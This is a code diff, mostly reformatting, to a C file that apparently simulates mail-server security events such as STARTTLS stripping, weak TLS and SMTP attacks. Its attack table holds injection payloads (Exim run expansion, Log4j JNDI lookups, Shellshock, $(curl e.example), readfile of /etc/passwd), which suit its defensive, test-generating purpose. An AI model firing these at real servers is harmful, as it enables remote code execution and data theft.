@@ -104,7 +104,8 @@ static void glue(struct actor *a, uint32_t i)
 {
 	meet(a, 0);
 	bool client = a->x & 1;
-	facts()->glued = (struct sc_ev_glued){client ? between(1, 400) : 0, client ? 0 : between(1, 400), SC_STR("EHLO evil")};
+	facts()->glued =
+		(struct sc_ev_glued){client ? between(1, 400) : 0, client ? 0 : between(1, 400), SC_STR("EHLO evil")};
 	facts()->quirks |= client ? QUIRK(starttls_glued_client) : QUIRK(starttls_glued_server);
 	good_tls();
 	leave();
@@ -133,20 +134,43 @@ static void fail_handshake(struct actor *a, uint32_t i)
 static void be_weak(struct actor *a, uint32_t i)
 {
 	static const sc_str names[] = {{"mx.example.org", 14}};
-	struct sc_ev_tls x = {.via = "starttls", .version = "TLSv1.2", .cipher = "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256",
-			      .established = true, .certificate = {.not_after = SC_TIME_NONE, .not_before = SC_TIME_NONE}};
+	struct sc_ev_tls x = {.via = "starttls",
+			      .version = "TLSv1.2",
+			      .cipher = "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256",
+			      .established = true,
+			      .certificate = {.not_after = SC_TIME_NONE, .not_before = SC_TIME_NONE}};
 	struct sc_ev_certificate *c = &x.certificate;
 	switch (a->y % 10) {
-	case 0: x.version = "TLSv1.0"; break;
-	case 1: x.version = "TLSv1.1"; break;
-	case 2: x.version = "SSLv3"; break;
-	case 3: x.cipher = "TLS_RSA_WITH_RC4_128_SHA"; break;
-	case 4: x.cipher = "TLS_RSA_WITH_3DES_EDE_CBC_SHA"; break;
-	case 5: c->not_after = clock_now() - between(1, 900) * (sc_time)DAY_S * SC_SECOND; break;
-	case 6: x.sni = SC_STR("mx.other.example"), c->names = (struct sc_strs){names, 1}; break;
-	case 7: c->key = SC_STR("RSA 1024"); break;
-	case 8: c->signature = "sha1WithRSAEncryption", c->subject = SC_STR("CN=a"), c->issuer = SC_STR("CN=b"); break;
-	default: x.old_offer = chance(50) ? "version" : "weak_cipher", x.established = chance(50); break;
+	case 0:
+		x.version = "TLSv1.0";
+		break;
+	case 1:
+		x.version = "TLSv1.1";
+		break;
+	case 2:
+		x.version = "SSLv3";
+		break;
+	case 3:
+		x.cipher = "TLS_RSA_WITH_RC4_128_SHA";
+		break;
+	case 4:
+		x.cipher = "TLS_RSA_WITH_3DES_EDE_CBC_SHA";
+		break;
+	case 5:
+		c->not_after = clock_now() - between(1, 900) * (sc_time)DAY_S * SC_SECOND;
+		break;
+	case 6:
+		x.sni = SC_STR("mx.other.example"), c->names = (struct sc_strs){names, 1};
+		break;
+	case 7:
+		c->key = SC_STR("RSA 1024");
+		break;
+	case 8:
+		c->signature = "sha1WithRSAEncryption", c->subject = SC_STR("CN=a"), c->issuer = SC_STR("CN=b");
+		break;
+	default:
+		x.old_offer = chance(50) ? "version" : "weak_cipher", x.established = chance(50);
+		break;
 	}
 	meet(a, 0);
 	handshake(&x);
@@ -170,14 +194,22 @@ static void attack(struct actor *a, uint32_t i)
 	static const struct {
 		const char *verb, *argument;
 	} tries[] = {
-		{"RCPT", "TO:<${run{\\x2Fbin\\x2Fsh}}@" OURS ">"}, {"MAIL", "FROM:<x@${jndi:ldap://e.example/a}>"},
-		{"EHLO", "${${lower:j}ndi:ldap://e.example}"},     {"MAIL", "FROM:<() { :; }; id>"},
-		{"RCPT", "TO:<\"|/bin/sh\"@" OURS ">"},             {"RCPT", "TO:<$(id)@" OURS ">"},
-		{"RCPT", "TO:<`id`@" OURS ">"},                     {"MAIL", "FROM:<;for i in 1 2;do id;done@x.example>"},
-		{"MAIL", "FROM:<a@b.example> AUTH=x+0Aroot"},       {"XEXCH50", "-1 2"},
-		{"BDAT", "99999999999999 LAST"},                    {"DEBUG", ""},
-		{"RCPT", "TO:<a@b.example> ORCPT=rfc822;x+0Dy"},    {"VRFY", "| /bin/id"},
-		{"HELO", "$(curl e.example)"},                      {"MAIL", "FROM:<${readfile{/etc/passwd}}>"},
+		{"RCPT", "TO:<${run{\\x2Fbin\\x2Fsh}}@" OURS ">"},
+		{"MAIL", "FROM:<x@${jndi:ldap://e.example/a}>"},
+		{"EHLO", "${${lower:j}ndi:ldap://e.example}"},
+		{"MAIL", "FROM:<() { :; }; id>"},
+		{"RCPT", "TO:<\"|/bin/sh\"@" OURS ">"},
+		{"RCPT", "TO:<$(id)@" OURS ">"},
+		{"RCPT", "TO:<`id`@" OURS ">"},
+		{"MAIL", "FROM:<;for i in 1 2;do id;done@x.example>"},
+		{"MAIL", "FROM:<a@b.example> AUTH=x+0Aroot"},
+		{"XEXCH50", "-1 2"},
+		{"BDAT", "99999999999999 LAST"},
+		{"DEBUG", ""},
+		{"RCPT", "TO:<a@b.example> ORCPT=rfc822;x+0Dy"},
+		{"VRFY", "| /bin/id"},
+		{"HELO", "$(curl e.example)"},
+		{"MAIL", "FROM:<${readfile{/etc/passwd}}>"},
 	};
 	arrive(outside(a, 0, 0), our_mx(a), 25, text("h.q%uq.example", a->number));
 	say(tries[a->y].verb, tries[a->y].argument, chance(50) ? 250 : 501, 0);
@@ -208,7 +240,7 @@ static void be_known(struct actor *a, uint32_t i)
 }
 
 static const struct scene scenes[] = {
-	{"masks STARTTLS", "starttls_stripped", "", 8, a_few, mask},
+	{"masks STARTTLS", "starttls_stripped", "no_mail_sessions", 8, a_few, mask},
 	{"takes STARTTLS from one", "starttls_stripped", "starttls_unused", 8, strip, offer_to_others},
 	{"refuses STARTTLS to one", "starttls_stripped", "", 4, refuse, refuse_one},
 	{"falls back to plain text", "starttls_unused", "", 20, fall_back, use_none},
